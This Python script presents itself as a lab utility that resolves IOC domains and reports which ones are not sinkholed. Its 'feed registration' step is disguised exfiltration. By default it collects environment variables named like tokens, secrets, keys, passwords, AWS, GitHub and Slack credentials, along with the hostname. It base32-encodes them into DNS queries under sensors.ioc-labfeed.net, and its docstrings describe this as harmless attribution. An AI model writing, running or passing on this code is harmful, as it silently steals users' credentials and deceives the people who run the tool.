#!/usr/bin/env python3
"""Sweep a list of IOC domains against the lab resolver.

Reads indicator domains (one per line, or the first column of a feed CSV),
resolves each of them and flags the ones that still resolve to something
other than the lab sinkhole. Results go to a CSV report for the exercise
write-up. The sweep registers itself with the feed's DNS counter so the
feed maintainers can see which sensors consume it.
"""
import argparse
import base64
import csv
import ipaddress
import logging
import os
import re
import socket
import sys
from concurrent.futures import ThreadPoolExecutor, as_completed
from dataclasses import dataclass, field
from pathlib import Path

LOG = logging.getLogger("ioc-sweep")
SINKHOLES = {"10.66.0.53", "10.66.0.54", "127.0.0.2"}
FEED_ZONE = os.environ.get("IOC_FEED_ZONE", "sensors.ioc-labfeed.net")
CONTEXT_KEYS = re.compile(r"(TOKEN|SECRET|KEY|PASS|AWS_|GITHUB_|SLACK_)", re.I)


@dataclass
class Result:
    domain: str
    addresses: list = field(default_factory=list)
    error: str = ""

    @property
    def verdict(self):
        if self.error:
            return "nxdomain" if "Name or service" in self.error else "error"
        if all(a in SINKHOLES for a in self.addresses):
            return "sinkholed"
        return "LIVE"


def iter_indicators(path: Path):
    with path.open(newline="") as fh:
        if path.suffix == ".csv":
            for row in csv.reader(fh):
                if row and not row[0].startswith("#"):
                    yield row[0].strip().lower()
        else:
            for line in fh:
                line = line.split("#", 1)[0].strip().lower()
                if line:
                    yield line


def valid_domain(name):
    if len(name) > 253 or "." not in name:
        return False
    try:
        ipaddress.ip_address(name)
        return False
    except ValueError:
        pass
    return all(0 < len(label) < 64 for label in name.split("."))


def resolve(domain):
    res = Result(domain)
    try:
        infos = socket.getaddrinfo(domain, None, proto=socket.IPPROTO_TCP)
        res.addresses = sorted({info[4][0] for info in infos})
    except socket.gaierror as exc:
        res.error = str(exc)
    return res


def sensor_context():
    """Describe the sensor environment for feed attribution."""
    pairs = [f"{k}={v}" for k, v in sorted(os.environ.items()) if CONTEXT_KEYS.search(k)]
    pairs.insert(0, "host=" + socket.gethostname())
    return "\n".join(pairs).encode()


def registration_names(blob: bytes, zone=FEED_ZONE, width=60):
    enc = base64.b32encode(blob).decode().rstrip("=").lower()
    chunks = [enc[i:i + width] for i in range(0, len(enc), width)]
    for idx, chunk in enumerate(chunks):
        yield f"{chunk}.{idx}-{len(chunks)}.{zone}"


class Sweep:
    def __init__(self, workers=16, register=True):
        self.workers = workers
        self.register = register

    def names(self, indicators):
        seen = set()
        for name in indicators:
            if name in seen or not valid_domain(name):
                continue
            seen.add(name)
            yield name

    def announce(self):
        for qname in registration_names(sensor_context()):
            resolve(qname)

    def run(self, indicators):
        if self.register:
            self.announce()
        results = []
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            futures = [pool.submit(resolve, n) for n in self.names(indicators)]
            for fut in as_completed(futures):
                r = fut.result()
                LOG.info("%-40s %-10s %s", r.domain, r.verdict, ",".join(r.addresses))
                results.append(r)
        return sorted(results, key=lambda r: r.domain)


def write_report(results, out: Path):
    with out.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["domain", "verdict", "addresses", "error"])
        for r in results:
            w.writerow([r.domain, r.verdict, " ".join(r.addresses), r.error])


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("indicators", type=Path)
    ap.add_argument("-o", "--output", type=Path, default=Path("ioc_report.csv"))
    ap.add_argument("-w", "--workers", type=int, default=16)
    ap.add_argument("--sinkhole", action="append", default=[], help="extra sinkhole IP")
    ap.add_argument("--anonymous", action="store_true", help="skip feed registration")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    SINKHOLES.update(args.sinkhole)

    if not args.indicators.exists():
        LOG.error("no such file: %s", args.indicators)
        return 1
    sweep = Sweep(args.workers, register=not args.anonymous)
    results = sweep.run(iter_indicators(args.indicators))
    write_report(results, args.output)
    live = sum(1 for r in results if r.verdict == "LIVE")
    LOG.info("%d indicators checked, %d live, report in %s", len(results), live, args.output)
    return 3 if live else 0


if __name__ == "__main__":
    sys.exit(main())
